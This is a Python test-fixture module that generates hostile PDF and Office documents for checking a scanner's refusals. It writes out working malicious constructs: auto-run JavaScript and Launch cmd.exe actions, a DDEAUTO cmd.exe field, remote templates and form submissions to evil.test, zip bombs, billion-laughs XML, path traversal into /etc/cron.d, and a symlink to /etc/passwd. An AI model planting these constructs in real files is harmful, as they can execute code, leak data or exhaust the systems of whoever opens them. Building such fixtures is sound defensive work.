"""Hostile PDF and Office documents, each with the refusal that it has to get."""

import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from msgspec import Struct

from tests.support import documents
from tests.support.documents import DOCX, PDF, PPTX, RELATION, XLSX
from workers.scan import refusals
from workers.scan.refusals import FileRefused

HTML = b"<html><script>alert(1)</script></html>"
_SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_MIB = 1024**2


class Hostile(Struct, frozen=True, kw_only=True):
    """A document, how it is declared, how it is made, and what has to become of it."""

    media_type: str
    make: Callable[[], bytes]
    refusal: type[FileRefused]

    def write(self, path: Path, *_: object) -> None:
        """Write it."""
        path.write_bytes(self.make())


def _packed(name: bytes) -> bytes:
    objects = documents.pages(catalog=b"/OpenAction 5 0 R")
    packed = {number: body for number, body in objects.items() if number != 3}
    return documents.packed_pdf({3: objects[3]}, packed | {5: _SCRIPT.replace(b"/JavaScript", name)})


def _packed_otherwise() -> bytes:
    """Return a PDF whose objects are packed in hexadecimal digits, as no program does it."""
    data = _packed(b"/JavaScript")
    start = data.index(b"stream\n", data.index(b"/ObjStm")) + 7
    end = data.index(b"\nendstream", start)
    before, packed = data[:start].rpartition(b"/Filter")[0], zlib.decompress(data[start:end]).hex().encode()
    return before + b"/Filter /ASCIIHexDecode /Length %d >>\nstream\n%s>" % (len(packed) + 1, packed) + data[end:]


def _damaged(data: bytes) -> bytes:
    """Deflate data, and end it with what makes every reader stop there."""
    packing = zlib.compressobj()
    return packing.compress(data) + packing.flush(zlib.Z_SYNC_FLUSH) + b"\xff" * 4


def _hexed(data: bytes) -> bytes:
    return data.hex().encode() + b">"


def _hidden(
    *,
    before: bytes = b"",
    pack: Callable[[bytes], bytes] = zlib.compress,
    told: bytes = b"/FlateDecode",
    decoy: bytes = b"",
) -> bytes:
    """Return a PDF whose catalog, with a program in it, is packed behind `before`, perhaps beside another stream.

    `decoy` is the dictionary of that one; in `told` can stand more than the filter.
    """
    head = before + b"1 0 "
    packed = pack(head + b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + _SCRIPT + b" >>")
    container = b"<< /Type /ObjStm /N 1 /First %d /Filter %s /Length %d >>" % (len(head), told, len(packed))
    objects = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        5: container + b"\nstream\n" + packed + b"\nendstream",
        7: documents.stream(b"", decoy),
    }
    data, places = b"%PDF-1.7\n", dict[int, int]()
    for number, body in objects.items():
        places[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows = {number: (1, place) for number, place in places.items()} | {1: (2, 5), 6: (1, len(data))}
    table = b"".join(struct.pack(">BIH", *rows.get(number, (0, 0)), 0) for number in range(8))
    about = b"<< /Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R /Length %d >>" % len(table)
    return data + b"6 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (about, table, len(data))


def _opening(action: bytes) -> Callable[[], bytes]:
    return lambda: documents.pdf(catalog=b"/OpenAction " + action)


def _annotated(annotation: bytes) -> Callable[[], bytes]:
    return lambda: documents.pdf(page=b"/Annots [<< /Type /Annot /Rect [0 0 9 9] %s >>]" % annotation)


def _embedded() -> bytes:
    more = {
        5: b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
        6: documents.stream(b"MZ", b"/Type /EmbeddedFile"),
    }
    return documents.pdf(catalog=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>", more=more)


def _bomb(size: int) -> bytes:
    return b"\0" * size


def _relation(kind: str, target: str) -> Callable[[], bytes]:
    part = {documents.relations_of(DOCX): documents.relations((kind, target, True))}
    return lambda: documents.office(DOCX, part)


def _part(media_type: str, name: str, data: str | bytes) -> Callable[[], bytes]:
    return lambda: documents.office(media_type, {name: data})


def _fielded(*codes: str) -> Callable[[], bytes]:
    """Return what writes a text document with a field in it, inside of another one."""
    inner = documents.field(*codes)
    return lambda: documents.office(DOCX, documents.written(*documents.field(" PAGE ")[:2], *inner))


def _slide(action: str) -> Callable[[], bytes]:
    drawn = f'<p:sld xmlns:p="p" xmlns:a="a"><a:hlinkMouseOver action="{action}"/></p:sld>'
    return _part(PPTX, "ppt/slides/slide1.xml", drawn)


def _listed_as(kind: str) -> bytes:
    """Return a document whose main part, by the relations, is another than the list begins with, of this type."""
    more = f'<Override PartName="/word/other.xml" ContentType="{kind}"/>'
    return documents.office(
        DOCX,
        {
            "[Content_Types].xml": documents.types(DOCX, more=more),
            "_rels/.rels": documents.relations(("officeDocument", "word/other.xml", False)),
            "word/other.xml": "<a/>",
        },
    )


def _elements(count: int) -> str:
    """Return elements, so different that they cannot be packed to nothing."""
    return "".join(f"<a{number * 7919 % 99_991}/>" for number in range(count))


def _named(name: str) -> Callable[[], bytes]:
    """Return what writes a document in which a part has this name, which zipfile would mend."""
    stand_in = "n" * len(name.encode())

    def make() -> bytes:
        return documents.office(DOCX, {stand_in: "x"}).replace(stand_in.encode(), name.encode())

    return make


def _link() -> bytes:
    info = zipfile.ZipInfo("word/media/a.png")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return documents.archive([*documents.parts(DOCX).items(), (info, "/etc/passwd")])


def _twice() -> bytes:
    return documents.office(DOCX, {"word/a.xml": "<a/>", "word/b.xml": "<a/>"}).replace(b"word/b.xml", b"word/A.xml")


def _shared() -> bytes:
    """Return an archive of which forty parts are one and the same compressed million of zeros."""
    data = documents.office(DOCX, {"word/media/0.png": _bomb(_MIB)})
    entry = data[data.rindex(b"PK\x01\x02") : data.rindex(b"PK\x05\x06")]
    return _listed(data, [entry.replace(b"/0.png", b"/%c.png" % (192 + number)) for number in range(40)])


def _quoted() -> bytes:
    """Return an archive in which a part is in another part, header and all (Fifield 2019: a better zip bomb)."""
    info = zipfile.ZipInfo("word/media/a.png")
    inner = documents.archive([("word/media/b.png", _bomb(_MIB))])
    end = inner.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<L", inner, end + 16)[0]
    data = documents.archive([*documents.parts(DOCX).items(), (info, inner[:start])])
    entry = bytearray(inner[start:end])
    entry[42:46] = struct.pack("<L", data.index(inner[:start]))
    return _listed(data, [bytes(entry)])


def _listed(data: bytes, entries: list[bytes]) -> bytes:
    """Return an archive with more entries in its directory."""
    end = data.rindex(b"PK\x05\x06")
    _, count, length, start = struct.unpack_from("<HHLL", data, end + 8)
    more = b"".join(entries)
    counts = struct.pack("<HHLL", count + len(entries), count + len(entries), length + len(more), start)
    return data[:end] + more + data[end : end + 8] + counts + data[end + 20 :]


def _other_name() -> bytes:
    """Return an archive whose directory calls a part other than the part itself does."""
    data = documents.office(DOCX, {"word/evil.xml": "<a/>"})
    at = data.rindex(b"word/evil.xml")
    return data[:at] + b"word/good.xml" + data[at + 13 :]


def _lying_size() -> bytes:
    """Return an archive whose headers say that a part is short."""
    data = documents.office(DOCX, {"word/media/a.png": _bomb(64 * _MIB)})
    return data.replace(struct.pack("<L", 64 * _MIB), struct.pack("<L", 100))


def _encrypted_part() -> bytes:
    data = bytearray(documents.office(DOCX))
    data[data.rindex(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def _main(media_type: str, main: str, more: dict[str, str | bytes] | None = None) -> Callable[[], bytes]:
    return lambda: documents.office(
        media_type, {"[Content_Types].xml": documents.types(media_type, main=main)} | dict(more or {})
    )


_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><a>&j;</a>"
)
_MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"

HOSTILE: dict[str, Hostile] = {
    "JavaScript when it is opened": Hostile(
        media_type=PDF, make=lambda: documents.pdf(catalog=b"/OpenAction " + _SCRIPT), refusal=refusals.ActiveContent
    ),
    "JavaScript by an escaped name": Hostile(
        media_type=PDF,
        make=lambda: documents.pdf(catalog=b"/OpenAction << /S /J#61v#61Script /J#53 (1) >>"),
        refusal=refusals.ActiveContent,
    ),
    "JavaScript of the document": Hostile(
        media_type=PDF,
        make=lambda: documents.pdf(catalog=b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", more={5: _SCRIPT}),
        refusal=refusals.ActiveContent,
    ),
    "JavaScript of a page": Hostile(
        media_type=PDF,
        make=lambda: documents.pdf(page=b"/AA << /O " + _SCRIPT + b" >>"),
        refusal=refusals.ActiveContent,
    ),
    "JavaScript in packed objects": Hostile(
        media_type=PDF, make=lambda: _packed(b"/JavaScript"), refusal=refusals.ActiveContent
    ),
    "JavaScript in packed objects by an escaped name": Hostile(
        media_type=PDF, make=lambda: _packed(b"/Java#53cript"), refusal=refusals.ActiveContent
    ),
    "JavaScript in objects packed in an unusual way": Hostile(
        media_type=PDF, make=_packed_otherwise, refusal=refusals.ActiveContent
    ),
    "a program that a page starts": Hostile(
        media_type=PDF,
        make=lambda: documents.pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (cmd.exe) >> >>]"
        ),
        refusal=refusals.ActiveContent,
    ),
    "a file in a PDF": Hostile(media_type=PDF, make=_embedded, refusal=refusals.ActiveContent),
    "a film in a PDF": Hostile(
        media_type=PDF,
        make=lambda: documents.pdf(page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]"),
        refusal=refusals.ActiveContent,
    ),
    "a form that is a program": Hostile(
        media_type=PDF,
        make=lambda: documents.pdf(
            catalog=b"/AcroForm << /Fields [] /XFA [(template) 5 0 R] >>", more={5: documents.stream(b"<xdp/>")}
        ),
        refusal=refusals.ActiveContent,
    ),
    "JavaScript in packed objects, encrypted without a password": Hostile(
        media_type=PDF,
        make=lambda: documents.sealed_pdf(b"", catalog=b"/OpenAction 5 0 R", more={5: _SCRIPT}),
        refusal=refusals.ActiveContent,
    ),
    "JavaScript in objects packed behind blanks": Hostile(
        media_type=PDF, make=lambda: _hidden(before=b" " * 6000), refusal=refusals.ActiveContent
    ),
    "JavaScript in packed objects before damage": Hostile(
        media_type=PDF, make=lambda: _hidden(pack=_damaged), refusal=refusals.ActiveContent
    ),
    "JavaScript in packed objects beside a name like theirs": Hostile(
        media_type=PDF,
        make=lambda: _hidden(pack=_hexed, told=b"/ASCIIHexDecode", decoy=b"/X /ObjStmX"),
        refusal=refusals.ActiveContent,
    ),
    "JavaScript in packed objects beside an escaped slash": Hostile(
        media_type=PDF,
        make=lambda: _hidden(pack=_hexed, told=b"/ASCIIHexDecode", decoy=b"/X#2fObjStm 1"),
        refusal=refusals.ActiveContent,
    ),
    "JavaScript in packed objects after a stream in a string": Hostile(
        media_type=PDF,
        make=lambda: _hidden(before=b" " * 6000, told=b"/FlateDecode /X (>>stream\n%s)" % zlib.compress(b"")),
        refusal=refusals.ActiveContent,
    ),
    "an address that is opened at once": Hostile(
        media_type=PDF, make=_opening(b"<< /S /URI /URI (http://evil.test) >>"), refusal=refusals.ActiveContent
    ),
    "an address that is opened at once, written elsewhere": Hostile(
        media_type=PDF,
        make=lambda: documents.pdf(
            catalog=b"/OpenAction 5 0 R", more={5: b"<< /Type /Action /S /URI /URI (http://evil.test) >>"}
        ),
        refusal=refusals.ActiveContent,
    ),
    "a file elsewhere that is opened at once": Hostile(
        media_type=PDF,
        make=_opening(rb"<< /S /GoToR /F (\\\\evil.test\\a) /D [0 /Fit] >>"),
        refusal=refusals.ActiveContent,
    ),
    "a form that is sent at once": Hostile(
        media_type=PDF,
        make=_opening(b"<< /S /SubmitForm /F << /FS /URL /F (http://evil.test) >> >>"),
        refusal=refusals.ActiveContent,
    ),
    "what is done when a page is opened": Hostile(
        media_type=PDF,
        make=lambda: documents.pdf(page=b"/AA 5 0 R", more={5: b"<< /O << /S /Named /N /Print >> >>"}),
        refusal=refusals.ActiveContent,
    ),
    "a page whose content is elsewhere": Hostile(
        media_type=PDF,
        make=lambda: documents.pdf(more={3: rb"<< /Length 0 /F (\\\\evil.test\\a) >>" + b"\nstream\n\nendstream"}),
        refusal=refusals.ActiveContent,
    ),
    "a film on a page": Hostile(
        media_type=PDF,
        make=_annotated(b"/Subtype /Movie /Movie << /F (a.avi) >> /A true"),
        refusal=refusals.ActiveContent,
    ),
    "a body on a page that acts": Hostile(
        media_type=PDF, make=_annotated(b"/Subtype /3D /3DD 5 0 R"), refusal=refusals.ActiveContent
    ),
    "a file on a page": Hostile(
        media_type=PDF,
        make=_annotated(b"/Subtype /FileAttachment /FS << /F (a.exe) /EF << /F 3 0 R >> >>"),
        refusal=refusals.ActiveContent,
    ),
    "the word of streams 3,000,000 times": Hostile(
        media_type=PDF, make=lambda: documents.pdf(more={5: b">>stream" * 3_000_000}), refusal=refusals.TooComplex
    ),
    "a PDF with a password": Hostile(
        media_type=PDF, make=lambda: documents.sealed_pdf("سرّ".encode()), refusal=refusals.EncryptedFile
    ),
    "10,000 pages": Hostile(media_type=PDF, make=lambda: documents.pdf(10_000), refusal=refusals.TooManyPages),
    "a PDF cut off": Hostile(media_type=PDF, make=lambda: documents.pdf(5)[:-400], refusal=refusals.UnreadableFile),
    "an updated PDF cut off": Hostile(
        media_type=PDF,
        make=lambda: documents.pdf() + b"5 0 obj\n<< /A 1 >>\nendobj\nxref\n0 1\n",
        refusal=refusals.UnreadableFile,
    ),
    "a PDF after something else": Hostile(
        media_type=PDF, make=lambda: HTML + documents.pdf(), refusal=refusals.UnreadableFile
    ),
    "an archive after a PDF": Hostile(
        media_type=PDF, make=lambda: documents.pdf() + documents.office(DOCX), refusal=refusals.TrailingData
    ),
    "HTML after a PDF": Hostile(media_type=PDF, make=lambda: documents.pdf() + HTML, refusal=refusals.TrailingData),
    "HTML after a PDF, ended again": Hostile(
        media_type=PDF, make=lambda: documents.pdf() + HTML + b"\n%%EOF\n", refusal=refusals.TrailingData
    ),
    "a page of a million inches": Hostile(
        media_type=PDF,
        make=lambda: documents.pdf().replace(b"[0 0 595 842]", b"[0 0 99999999 9]"),
        refusal=refusals.UnreadableFile,
    ),
    "packed objects of 140 MiB": Hostile(
        media_type=PDF,
        make=lambda: documents.pdf(
            more={5: documents.stream(b"1 0 " + b" " * 140 * _MIB, b"/Type /ObjStm /N 1 /First 4")}
        ),
        refusal=refusals.TooComplex,
    ),
    "no PDF": Hostile(media_type=PDF, make=lambda: b"%PDF-1.7\nnothing\n%%EOF", refusal=refusals.UnreadableFile),
    "an archive bomb": Hostile(
        media_type=DOCX, make=_part(DOCX, "word/media/a.png", _bomb(64 * _MIB)), refusal=refusals.ArchiveTooLarge
    ),
    "an archive bomb that lies": Hostile(media_type=DOCX, make=_lying_size, refusal=refusals.ArchiveTooLarge),
    "a bomb in a document in a document": Hostile(
        media_type=DOCX,
        make=lambda: documents.office(
            DOCX, {"word/embeddings/a.xlsx": documents.office(XLSX, {"xl/media/a.png": _bomb(64 * _MIB)})}
        ),
        refusal=refusals.ArchiveTooLarge,
    ),
    "documents in documents in documents": Hostile(
        media_type=DOCX,
        make=lambda: documents.office(
            DOCX,
            {"word/embeddings/a.xlsx": documents.office(XLSX, {"xl/embeddings/a.docx": documents.office(DOCX)})},
        ),
        refusal=refusals.ActiveContent,
    ),
    "forty parts that are one": Hostile(media_type=DOCX, make=_shared, refusal=refusals.UnreadableFile),
    "a part in a part": Hostile(media_type=DOCX, make=_quoted, refusal=refusals.UnreadableFile),
    "20,000 parts": Hostile(
        media_type=DOCX,
        make=lambda: documents.office(DOCX, {f"word/{number}.xml": "" for number in range(20_000)}),
        refusal=refusals.ArchiveTooLarge,
    ),
    "a thousand million laughs": Hostile(
        media_type=DOCX, make=_part(DOCX, "word/settings.xml", _LAUGHS), refusal=refusals.EntitiesDeclared
    ),
    "a thousand million laughs in UTF-16": Hostile(
        media_type=DOCX,
        make=_part(DOCX, "word/settings.xml", _LAUGHS.encode("utf-16")),
        refusal=refusals.EntitiesDeclared,
    ),
    "a thousand million laughs about the parts": Hostile(
        media_type=DOCX, make=_part(DOCX, "_rels/.rels", _LAUGHS), refusal=refusals.EntitiesDeclared
    ),
    "XML in UTF-7": Hostile(
        media_type=DOCX,
        make=_part(DOCX, "word/settings.xml", '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE a+AD4-'),
        refusal=refusals.UnreadableFile,
    ),
    "a name that leads out": Hostile(
        media_type=DOCX, make=_named("word/../../../etc/cron.d/a"), refusal=refusals.UnsafePath
    ),
    "a name from the root": Hostile(media_type=DOCX, make=_named("/etc/cron.d/a"), refusal=refusals.UnsafePath),
    "a name with a drive": Hostile(media_type=DOCX, make=_named("C:/Windows/a"), refusal=refusals.UnsafePath),
    "a name with backslashes": Hostile(media_type=DOCX, make=_named("word\\..\\..\\a"), refusal=refusals.UnsafePath),
    "a name with a zero": Hostile(media_type=DOCX, make=_named("word/a.png\0.exe"), refusal=refusals.UnsafePath),
    "a link": Hostile(media_type=DOCX, make=_link, refusal=refusals.UnsafePath),
    "one name twice": Hostile(media_type=DOCX, make=_twice, refusal=refusals.UnreadableFile),
    "two names of one part": Hostile(media_type=DOCX, make=_other_name, refusal=refusals.UnreadableFile),
    "an encrypted part": Hostile(media_type=DOCX, make=_encrypted_part, refusal=refusals.EncryptedFile),
    "a macro": Hostile(
        media_type=DOCX, make=_part(DOCX, "word/vbaProject.bin", b"\xd0\xcf\x11\xe0"), refusal=refusals.ActiveContent
    ),
    "a document for macros": Hostile(media_type=DOCX, make=_main(DOCX, _MACRO_MAIN), refusal=refusals.ActiveContent),
    "an old macro in a sheet": Hostile(
        media_type=XLSX, make=_part(XLSX, "xl/macrosheets/sheet1.xml", "<a/>"), refusal=refusals.ActiveContent
    ),
    "a template elsewhere": Hostile(
        media_type=DOCX, make=_relation("attachedTemplate", "http://evil.test/a.dotm"), refusal=refusals.ActiveContent
    ),
    "a picture elsewhere": Hostile(
        media_type=DOCX, make=_relation("image", "\\\\evil.test\\a.png"), refusal=refusals.ActiveContent
    ),
    "a picture elsewhere that is said to be here": Hostile(
        media_type=DOCX,
        make=lambda: documents.office(
            DOCX, {documents.relations_of(DOCX): documents.relations(("image", "file://evil.test/a.png", False))}
        ),
        refusal=refusals.ActiveContent,
    ),
    "a program in a field": Hostile(
        media_type=DOCX, make=_fielded(' DDEAUTO c:\\cmd.exe "/k calc.exe" '), refusal=refusals.ActiveContent
    ),
    "a program in a field in pieces": Hostile(
        media_type=DOCX, make=_fielded(" ", "D", "DEAU", "TO c:\\cmd.exe"), refusal=refusals.ActiveContent
    ),
    "a program in a field by a reference": Hostile(
        media_type=DOCX, make=_fielded("&#68;DE Excel a"), refusal=refusals.ActiveContent
    ),
    "a program in a short field": Hostile(
        media_type=DOCX,
        make=lambda: documents.office(DOCX, documents.written('<w:fldSimple w:instr=" dde Excel a"/>')),
        refusal=refusals.ActiveContent,
    ),
    "a picture elsewhere in a field": Hostile(
        media_type=DOCX, make=_fielded(' INCLUDEPICTURE "http://evil.test/a.png" \\d '), refusal=refusals.ActiveContent
    ),
    "a program in a sheet": Hostile(
        media_type=XLSX,
        make=_part(
            XLSX, "xl/externalLinks/externalLink1.xml", '<externalLink><ddeLink ddeService="cmd"/></externalLink>'
        ),
        refusal=refusals.ActiveContent,
    ),
    "a sheet that asks a server": Hostile(
        media_type=XLSX,
        make=_part(XLSX, "xl/connections.xml", '<connections><webPr url="http://evil.test"/></connections>'),
        refusal=refusals.ActiveContent,
    ),
    "a program on a slide": Hostile(media_type=PPTX, make=_slide("ppaction://program"), refusal=refusals.ActiveContent),
    "a template elsewhere that is said to be a link": Hostile(
        media_type=DOCX,
        make=_relation("http://evil.test/hyperlink", "http://evil.test/a.dotm"),
        refusal=refusals.ActiveContent,
    ),
    "a list of 700,000 elements": Hostile(
        media_type=DOCX,
        make=lambda: documents.office(DOCX, {"[Content_Types].xml": documents.types(DOCX, more=_elements(700_000))}),
        refusal=refusals.TooComplex,
    ),
    "a stranger's type": Hostile(media_type=DOCX, make=lambda: _listed_as("x" * 5000), refusal=refusals.TypeMismatch),
    "a page in a document": Hostile(
        media_type=DOCX, make=_relation(f"{RELATION}/aFChunk", "a.html"), refusal=refusals.ActiveContent
    ),
    "an object": Hostile(
        media_type=PPTX, make=_part(PPTX, "ppt/embeddings/oleObject1.bin", b"x"), refusal=refusals.ActiveContent
    ),
    "a control": Hostile(
        media_type=XLSX, make=_part(XLSX, "xl/activeX/activeX1.xml", "<a/>"), refusal=refusals.ActiveContent
    ),
    "a program in a document": Hostile(
        media_type=DOCX, make=_part(DOCX, "word/media/a.exe", b"MZ"), refusal=refusals.ActiveContent
    ),
    "a sheet as a document": Hostile(
        media_type=DOCX, make=lambda: documents.office(XLSX), refusal=refusals.TypeMismatch
    ),
    "any archive": Hostile(
        media_type=DOCX, make=lambda: documents.archive([("a.txt", "x")]), refusal=refusals.TypeMismatch
    ),
    "HTML before an archive": Hostile(
        media_type=DOCX, make=lambda: HTML + documents.office(DOCX), refusal=refusals.TrailingData
    ),
    "HTML after an archive": Hostile(
        media_type=DOCX, make=lambda: documents.office(DOCX) + HTML, refusal=refusals.TrailingData
    ),
    "a document cut off": Hostile(
        media_type=DOCX, make=lambda: documents.office(DOCX)[:-300], refusal=refusals.UnreadableFile
    ),
}


def _drawn(content: bytes, resources: bytes, more: dict[int, bytes]) -> bytes:
    objects = documents.pages(page=b"/Resources << %s >>" % resources)
    return documents.pdf_of(objects | {3: documents.stream(content)} | more, trailer=b"/Info 4 0 R")


def _forms_in_forms() -> bytes:
    """Return a page that draws a picture of pictures of pictures: 12 times 12 times 12..."""
    about = b"/Type /XObject /Subtype /Form /BBox [0 0 600 900]"
    forms = {
        number: documents.stream(b"/X Do " * 12, about + b" /Resources << /XObject << /X %d 0 R >> >>" % (number + 1))
        for number in range(30, 41)
    }
    return _drawn(b"/X Do", b"/XObject << /X 30 0 R >>", forms | {41: documents.stream(b"0 0 9 9 re f", about)})


def _tiles() -> bytes:
    """Return a page that is paved with tiles of a ten thousandth of a point."""
    about = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001"
    tile = documents.stream(b"1 0 0 rg 0 0 1 1 re f", about + b" /Resources << >>")
    return _drawn(b"/Pattern cs /P scn 0 0 595 842 re f", b"/Pattern << /P 30 0 R >>", {30: tile})


#: Small PDFs whose first page would take hours to draw, or all memory.
HEAVY: dict[str, Callable[[], bytes]] = {
    "forms in forms": _forms_in_forms,
    "tiny tiles": _tiles,
    "400 MiB of blanks to draw": lambda: _drawn(b" " * 400 * _MIB, b"", {}),
}
